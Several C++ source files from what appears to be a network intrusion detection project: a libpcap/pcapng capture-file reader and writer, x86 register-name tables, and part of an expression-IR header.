bool is_const(const ExprPtr& e, std::uint32_t* value = nullptr) noexcept;

/// Debug/authoring rendering, e.g. "xor(load8(init(eax)), 0x95)".
std::string to_string(const ExprPtr& e);

const char* binop_name(BinOp op) noexcept;

}  // namespace senids::ir
