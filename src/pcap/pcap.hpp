// Reader/writer for the classic libpcap capture file format
// (https://wiki.wireshark.org/Development/LibpcapFileFormat). The paper's
// evaluation runs over captured traces; since this environment has no live
// capture, every trace in the repository round-trips through this format,
// exercising the same parse path a libpcap-based deployment would.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "util/bytes.hpp"

namespace senids::pcap {

inline constexpr std::uint32_t kMagicLe = 0xa1b2c3d4;  // microsecond timestamps
inline constexpr std::uint32_t kLinkEthernet = 1;      // LINKTYPE_ETHERNET

/// Global file header fields we honor.
struct FileHeader {
  std::uint16_t version_major = 2;
  std::uint16_t version_minor = 4;
  std::uint32_t snaplen = 65535;
  std::uint32_t linktype = kLinkEthernet;
};

/// One captured record: timestamp plus the (possibly snapped) frame bytes.
struct Record {
  std::uint32_t ts_sec = 0;
  std::uint32_t ts_usec = 0;
  std::uint32_t orig_len = 0;  // original wire length (>= data.size())
  util::Bytes data;
};

/// In-memory capture: header plus all records. Traces in tests/benches are
/// small enough (a few hundred MB at paper scale) that memory-resident
/// captures are the simplest correct representation.
struct Capture {
  FileHeader header;
  std::vector<Record> records;

  void add(std::uint32_t ts_sec, std::uint32_t ts_usec, util::ByteView frame) {
    records.push_back(Record{ts_sec, ts_usec, static_cast<std::uint32_t>(frame.size()),
                             util::Bytes(frame.begin(), frame.end())});
  }
};

/// Serialize a capture to pcap bytes (little-endian writer).
util::Bytes serialize(const Capture& capture);

/// Parse pcap bytes. Returns nullopt on a malformed header; tolerates a
/// truncated final record by dropping it (matches libpcap behaviour).
/// Handles both byte orders.
std::optional<Capture> parse(util::ByteView data);

/// Parse pcapng (next-generation) bytes: SHB/IDB/EPB/SPB blocks, both
/// byte orders, default microsecond timestamp resolution. Unknown block
/// types are skipped; options are ignored. Multi-section files
/// concatenate their packets.
std::optional<Capture> parse_pcapng(util::ByteView data);

/// Parse either format, auto-detected by magic.
std::optional<Capture> parse_any(util::ByteView data);

/// File convenience wrappers. `read_file` auto-detects pcap vs pcapng and
/// returns nullopt if the file is missing or malformed; `write_file`
/// always writes classic pcap.
bool write_file(const std::string& path, const Capture& capture);
std::optional<Capture> read_file(const std::string& path);

}  // namespace senids::pcap
