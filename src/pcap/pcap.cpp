#include "pcap/pcap.hpp"

#include <cstdio>
#include <memory>

namespace senids::pcap {

using util::Bytes;
using util::ByteView;
using util::Cursor;

Bytes serialize(const Capture& capture) {
  Bytes out;
  out.reserve(24 + capture.records.size() * 64);
  util::put_u32le(out, kMagicLe);
  util::put_u16le(out, capture.header.version_major);
  util::put_u16le(out, capture.header.version_minor);
  util::put_u32le(out, 0);  // thiszone
  util::put_u32le(out, 0);  // sigfigs
  util::put_u32le(out, capture.header.snaplen);
  util::put_u32le(out, capture.header.linktype);
  for (const Record& r : capture.records) {
    util::put_u32le(out, r.ts_sec);
    util::put_u32le(out, r.ts_usec);
    util::put_u32le(out, static_cast<std::uint32_t>(r.data.size()));
    util::put_u32le(out, r.orig_len);
    out.insert(out.end(), r.data.begin(), r.data.end());
  }
  return out;
}

namespace {
std::uint32_t swap32(std::uint32_t v) {
  return ((v & 0xffu) << 24) | ((v & 0xff00u) << 8) | ((v >> 8) & 0xff00u) | (v >> 24);
}
std::uint16_t swap16(std::uint16_t v) {
  return static_cast<std::uint16_t>((v << 8) | (v >> 8));
}
}  // namespace

std::optional<Capture> parse(ByteView data) {
  if (data.size() < 24) return std::nullopt;
  Cursor cur(data);
  std::uint32_t magic = cur.u32le();
  bool swapped = false;
  if (magic == swap32(kMagicLe)) {
    swapped = true;
  } else if (magic != kMagicLe) {
    return std::nullopt;
  }
  auto r32 = [&] { std::uint32_t v = cur.u32le(); return swapped ? swap32(v) : v; };
  auto r16 = [&] { std::uint16_t v = cur.u16le(); return swapped ? swap16(v) : v; };

  Capture cap;
  cap.header.version_major = r16();
  cap.header.version_minor = r16();
  (void)r32();  // thiszone
  (void)r32();  // sigfigs
  cap.header.snaplen = r32();
  cap.header.linktype = r32();

  while (cur.remaining() >= 16) {
    Record rec;
    rec.ts_sec = r32();
    rec.ts_usec = r32();
    std::uint32_t incl_len = r32();
    rec.orig_len = r32();
    if (cur.remaining() < incl_len) break;  // truncated tail record: drop
    ByteView body = cur.take(incl_len);
    rec.data.assign(body.begin(), body.end());
    cap.records.push_back(std::move(rec));
  }
  return cap;
}

std::optional<Capture> parse_pcapng(util::ByteView data) {
  constexpr std::uint32_t kShb = 0x0A0D0D0A;
  constexpr std::uint32_t kIdb = 0x00000001;
  constexpr std::uint32_t kSpb = 0x00000003;
  constexpr std::uint32_t kEpb = 0x00000006;
  constexpr std::uint32_t kByteOrderMagic = 0x1A2B3C4D;

  if (data.size() < 28) return std::nullopt;
  Capture cap;
  bool have_section = false;
  bool swapped = false;
  std::size_t pos = 0;

  auto rd32 = [&](std::size_t at) -> std::uint32_t {
    std::uint32_t v = static_cast<std::uint32_t>(data[at]) |
                      (static_cast<std::uint32_t>(data[at + 1]) << 8) |
                      (static_cast<std::uint32_t>(data[at + 2]) << 16) |
                      (static_cast<std::uint32_t>(data[at + 3]) << 24);
    return swapped ? swap32(v) : v;
  };

  while (pos + 12 <= data.size()) {
    // Block type is written in section byte order, but the SHB type is an
    // endianness-neutral palindrome; detect order from its magic field.
    const std::uint32_t raw_type = rd32(pos);
    if (!have_section) {
      if (raw_type != kShb) return std::nullopt;  // must start with a SHB
    }
    std::uint32_t block_type = raw_type;
    if (block_type == kShb) {
      if (pos + 12 > data.size()) break;
      const std::uint32_t bom_raw =
          static_cast<std::uint32_t>(data[pos + 8]) |
          (static_cast<std::uint32_t>(data[pos + 9]) << 8) |
          (static_cast<std::uint32_t>(data[pos + 10]) << 16) |
          (static_cast<std::uint32_t>(data[pos + 11]) << 24);
      if (bom_raw == kByteOrderMagic) {
        swapped = false;
      } else if (swap32(bom_raw) == kByteOrderMagic) {
        swapped = true;
      } else {
        return std::nullopt;
      }
      have_section = true;
    }
    const std::uint32_t block_len = rd32(pos + 4);
    if (block_len < 12 || block_len % 4 != 0 || pos + block_len > data.size()) break;
    const std::size_t body = pos + 8;
    const std::size_t body_len = block_len - 12;  // minus type+2 lengths

    switch (block_type) {
      case kIdb:
        if (body_len >= 8 && cap.records.empty()) {
          cap.header.linktype = rd32(body) & 0xffff;  // linktype u16 + reserved
          cap.header.snaplen = rd32(body + 4);
        }
        break;
      case kEpb: {
        if (body_len < 20) break;
        const std::uint32_t ts_high = rd32(body + 4);
        const std::uint32_t ts_low = rd32(body + 8);
        const std::uint32_t incl = rd32(body + 12);
        const std::uint32_t orig = rd32(body + 16);
        if (20 + incl > body_len) break;
        // Default if_tsresol: microseconds since the epoch in a 64-bit
        // counter split across ts_high/ts_low.
        const std::uint64_t usec =
            (static_cast<std::uint64_t>(ts_high) << 32) | ts_low;
        Record rec;
        rec.ts_sec = static_cast<std::uint32_t>(usec / 1000000);
        rec.ts_usec = static_cast<std::uint32_t>(usec % 1000000);
        rec.orig_len = orig;
        rec.data.assign(data.begin() + static_cast<std::ptrdiff_t>(body + 20),
                        data.begin() + static_cast<std::ptrdiff_t>(body + 20 + incl));
        cap.records.push_back(std::move(rec));
        break;
      }
      case kSpb: {
        if (body_len < 4) break;
        const std::uint32_t orig = rd32(body);
        const std::uint32_t incl =
            std::min<std::uint32_t>(orig, static_cast<std::uint32_t>(body_len - 4));
        Record rec;
        rec.orig_len = orig;
        rec.data.assign(data.begin() + static_cast<std::ptrdiff_t>(body + 4),
                        data.begin() + static_cast<std::ptrdiff_t>(body + 4 + incl));
        cap.records.push_back(std::move(rec));
        break;
      }
      default:
        break;  // name resolution, statistics, custom blocks: skipped
    }
    pos += block_len;
  }
  if (!have_section) return std::nullopt;
  return cap;
}

std::optional<Capture> parse_any(util::ByteView data) {
  if (data.size() >= 4) {
    const std::uint32_t first = static_cast<std::uint32_t>(data[0]) |
                                (static_cast<std::uint32_t>(data[1]) << 8) |
                                (static_cast<std::uint32_t>(data[2]) << 16) |
                                (static_cast<std::uint32_t>(data[3]) << 24);
    if (first == 0x0A0D0D0A) return parse_pcapng(data);
  }
  return parse(data);
}

bool write_file(const std::string& path, const Capture& capture) {
  Bytes data = serialize(capture);
  std::unique_ptr<std::FILE, int (*)(std::FILE*)> f(std::fopen(path.c_str(), "wb"),
                                                    &std::fclose);
  if (!f) return false;
  return std::fwrite(data.data(), 1, data.size(), f.get()) == data.size();
}

std::optional<Capture> read_file(const std::string& path) {
  std::unique_ptr<std::FILE, int (*)(std::FILE*)> f(std::fopen(path.c_str(), "rb"),
                                                    &std::fclose);
  if (!f) return std::nullopt;
  Bytes data;
  std::uint8_t buf[1 << 16];
  std::size_t n;
  while ((n = std::fread(buf, 1, sizeof buf, f.get())) > 0) {
    data.insert(data.end(), buf, buf + n);
  }
  return parse_any(data);
}

}  // namespace senids::pcap
