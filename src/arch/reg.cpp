#include "arch/reg.hpp"

namespace senids::arch {

namespace {
constexpr std::string_view kNames64[] = {"rax", "rcx", "rdx", "rbx",
                                         "rsp", "rbp", "rsi", "rdi",
                                         "r8",  "r9",  "r10", "r11",
                                         "r12", "r13", "r14", "r15"};
constexpr std::string_view kNames32[] = {"eax",  "ecx",  "edx",  "ebx",
                                         "esp",  "ebp",  "esi",  "edi",
                                         "r8d",  "r9d",  "r10d", "r11d",
                                         "r12d", "r13d", "r14d", "r15d"};
constexpr std::string_view kNames16[] = {"ax",   "cx",   "dx",   "bx",
                                         "sp",   "bp",   "si",   "di",
                                         "r8w",  "r9w",  "r10w", "r11w",
                                         "r12w", "r13w", "r14w", "r15w"};
constexpr std::string_view kNames8Lo[] = {"al",   "cl",   "dl",   "bl",
                                          "spl",  "bpl",  "sil",  "dil",
                                          "r8b",  "r9b",  "r10b", "r11b",
                                          "r12b", "r13b", "r14b", "r15b"};
constexpr std::string_view kNames8Hi[] = {"ah", "ch", "dh", "bh"};
}  // namespace

std::string_view Reg::name() const noexcept {
  const auto f = static_cast<unsigned>(family) & 15;
  switch (width) {
    case RegWidth::k64:
      return kNames64[f];
    case RegWidth::k32:
      return kNames32[f];
    case RegWidth::k16:
      return kNames16[f];
    case RegWidth::k8Lo:
      return kNames8Lo[f];
    case RegWidth::k8Hi:
      return kNames8Hi[f & 3];
  }
  return "?";
}

Reg reg64(unsigned index) noexcept {
  return Reg{static_cast<RegFamily>(index & 15), RegWidth::k64};
}

Reg reg32(unsigned index) noexcept {
  return Reg{static_cast<RegFamily>(index & 15), RegWidth::k32};
}

Reg reg16(unsigned index) noexcept {
  return Reg{static_cast<RegFamily>(index & 15), RegWidth::k16};
}

Reg reg8(unsigned index, bool rex_present) noexcept {
  index &= 15;
  // Without REX, encodings 0-3 are AL,CL,DL,BL and 4-7 are AH,CH,DH,BH,
  // which live in the AX..BX families. Any REX prefix switches 4-7 to
  // SPL,BPL,SIL,DIL and unlocks 8-15 (R8B..R15B).
  if (index < 4 || rex_present) {
    return Reg{static_cast<RegFamily>(index), RegWidth::k8Lo};
  }
  return Reg{static_cast<RegFamily>(index - 4), RegWidth::k8Hi};
}

unsigned width_bits(RegWidth w) noexcept {
  switch (w) {
    case RegWidth::k8Lo:
    case RegWidth::k8Hi:
      return 8;
    case RegWidth::k16:
      return 16;
    case RegWidth::k32:
      return 32;
    case RegWidth::k64:
      return 64;
  }
  return 0;
}

}  // namespace senids::arch
